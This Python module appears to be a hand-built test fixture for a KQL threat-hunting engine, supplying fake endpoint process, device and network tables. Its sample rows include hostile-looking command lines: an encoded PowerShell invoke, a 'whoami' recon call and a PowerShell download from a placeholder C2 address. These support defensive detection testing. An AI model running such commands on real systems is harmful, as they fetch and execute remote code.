"""A small hand-made hunting dataset whose answers can be worked out by eye. (A module of its own,
not conftest.py, so that `from kql_dataset import ...` works whatever other test directories share
the session.)

DeviceProcessEvents (8 rows, NOW = 2026-11-23 12:00Z):
  #  age    device  file                 size     account
  1  1h     d1 pc1  powershell.exe       450000   alice
  2  2h     d1 pc1  cmd.exe              280000   alice
  3  1d     d2 pc2  PowerShell.EXE       450000   bob
  4  3d     d2 pc2  chrome.exe           2500000  bob
  5  8d     d3 srv1 invoice_viewer.exe   482304   carol    SHA256 = BAD
  6  10d    d1 pc1  invoice_viewer.exe   482304   alice    SHA256 = BAD
  7  20d    d3 srv1 notepad.exe          200000   carol
  8  30m    d3 srv1 powershell.exe       450000   carol
DeviceInfo: d1..d3 Windows, d4 a Mac with no PublicIP and no OSBuild.
DeviceNetworkEvents: 4 connections, two of them to the C2 address 203.0.113.66.
Extra: dynamic, real, timespan and guid columns, with nulls.
"""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

from soar_defender.kql import Column, Table

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
BAD = "9e45d75dc2a03dd2bda120c11e48e635de3394fb1ae9a1cbcfe0159ce61b4f5f"
GUID_A = "6f1c2f8e-1b7a-4c1e-9c1d-0a9b8c7d6e5f"


def _process_rows():
    raw = [
        (timedelta(hours=1), "d1", "pc1.contoso.com", "powershell.exe", "powershell.exe -enc SQBFAFgA", "alice",
         "explorer.exe", "h_ps", 450000),
        (timedelta(hours=2), "d1", "pc1.contoso.com", "cmd.exe", "cmd.exe /c whoami", "alice",
         "powershell.exe", "h_cmd", 280000),
        (timedelta(days=1), "d2", "pc2.contoso.com", "PowerShell.EXE", "PowerShell.EXE -NoProfile Get-Process", "bob",
         "explorer.exe", "h_ps", 450000),
        (timedelta(days=3), "d2", "pc2.contoso.com", "chrome.exe", '"chrome.exe" --type=renderer', "bob",
         "explorer.exe", "h_chrome", 2500000),
        (timedelta(days=8), "d3", "srv1.contoso.com", "invoice_viewer.exe", '"invoice_viewer.exe" /silent', "carol",
         "explorer.exe", BAD, 482304),
        (timedelta(days=10), "d1", "pc1.contoso.com", "invoice_viewer.exe", '"invoice_viewer.exe" /silent', "alice",
         "explorer.exe", BAD, 482304),
        (timedelta(days=20), "d3", "srv1.contoso.com", "notepad.exe", r"notepad.exe C:\notes.txt", "carol",
         "explorer.exe", "h_notepad", 200000),
        (timedelta(minutes=30), "d3", "srv1.contoso.com", "powershell.exe",
         "powershell.exe -Command Invoke-WebRequest http://203.0.113.66/a", "carol", "cmd.exe", "h_ps", 450000),
    ]
    keys = ("DeviceId", "DeviceName", "FileName", "ProcessCommandLine", "AccountName",
            "InitiatingProcessFileName", "SHA256", "FileSize")
    return [{"Timestamp": NOW - age, **dict(zip(keys, rest))} for age, *rest in raw]


def make_tables() -> dict[str, Table]:
    process = Table("DeviceProcessEvents", [
        Column("Timestamp", "datetime"), Column("DeviceId", "string"), Column("DeviceName", "string"),
        Column("FileName", "string"), Column("ProcessCommandLine", "string"), Column("AccountName", "string"),
        Column("InitiatingProcessFileName", "string"), Column("SHA256", "string"), Column("FileSize", "long"),
    ], _process_rows())
    info = Table("DeviceInfo", [
        Column("Timestamp", "datetime"), Column("DeviceId", "string"), Column("DeviceName", "string"),
        Column("OSPlatform", "string"), Column("PublicIP", "string"), Column("IsAzureADJoined", "bool"),
        Column("OSBuild", "long"),
    ], [
        {"Timestamp": NOW - timedelta(hours=1), "DeviceId": "d1", "DeviceName": "pc1.contoso.com",
         "OSPlatform": "Windows11", "PublicIP": "198.51.100.1", "IsAzureADJoined": True, "OSBuild": 22631},
        {"Timestamp": NOW - timedelta(hours=1), "DeviceId": "d2", "DeviceName": "pc2.contoso.com",
         "OSPlatform": "Windows10", "PublicIP": "198.51.100.2", "IsAzureADJoined": False, "OSBuild": 19045},
        {"Timestamp": NOW - timedelta(hours=1), "DeviceId": "d3", "DeviceName": "srv1.contoso.com",
         "OSPlatform": "WindowsServer2022", "PublicIP": "198.51.100.3", "IsAzureADJoined": True, "OSBuild": 20348},
        {"Timestamp": NOW - timedelta(days=2), "DeviceId": "d4", "DeviceName": "mac1.contoso.com",
         "OSPlatform": "macOS", "PublicIP": None, "IsAzureADJoined": False, "OSBuild": None},
    ])
    network = Table("DeviceNetworkEvents", [
        Column("Timestamp", "datetime"), Column("DeviceId", "string"), Column("DeviceName", "string"),
        Column("ActionType", "string"), Column("RemoteIP", "string"), Column("RemotePort", "int"),
        Column("RemoteUrl", "string"), Column("LocalIP", "string"),
    ], [
        {"Timestamp": NOW - timedelta(hours=1), "DeviceId": "d1", "DeviceName": "pc1.contoso.com",
         "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.66", "RemotePort": 443,
         "RemoteUrl": "update-check.badcdn.example", "LocalIP": "10.0.0.1"},
        {"Timestamp": NOW - timedelta(hours=2), "DeviceId": "d1", "DeviceName": "pc1.contoso.com",
         "ActionType": "ConnectionSuccess", "RemoteIP": "20.190.151.6", "RemotePort": 443,
         "RemoteUrl": "login.microsoftonline.com", "LocalIP": "10.0.0.1"},
        {"Timestamp": NOW - timedelta(days=1), "DeviceId": "d2", "DeviceName": "pc2.contoso.com",
         "ActionType": "ConnectionFailed", "RemoteIP": "142.250.74.36", "RemotePort": 80,
         "RemoteUrl": "www.google.com", "LocalIP": "10.0.0.2"},
        {"Timestamp": NOW - timedelta(days=2), "DeviceId": "d3", "DeviceName": "srv1.contoso.com",
         "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.66", "RemotePort": 8080,
         "RemoteUrl": "", "LocalIP": "10.0.0.3"},
    ])
    extra = Table("Extra", [
        Column("Name", "string"), Column("Tags", "dynamic"), Column("Score", "real"),
        Column("Duration", "timespan"), Column("Id", "guid"),
    ], [
        {"Name": "a", "Tags": ["x", "y"], "Score": 1.5, "Duration": timedelta(hours=1), "Id": GUID_A},
        {"Name": "b", "Tags": {"k": 1}, "Score": None, "Duration": timedelta(minutes=30), "Id": None},
        {"Name": "c", "Tags": None, "Score": -2.0, "Duration": None, "Id": None},
    ])
    return {t.name: t for t in (process, info, network, extra)}
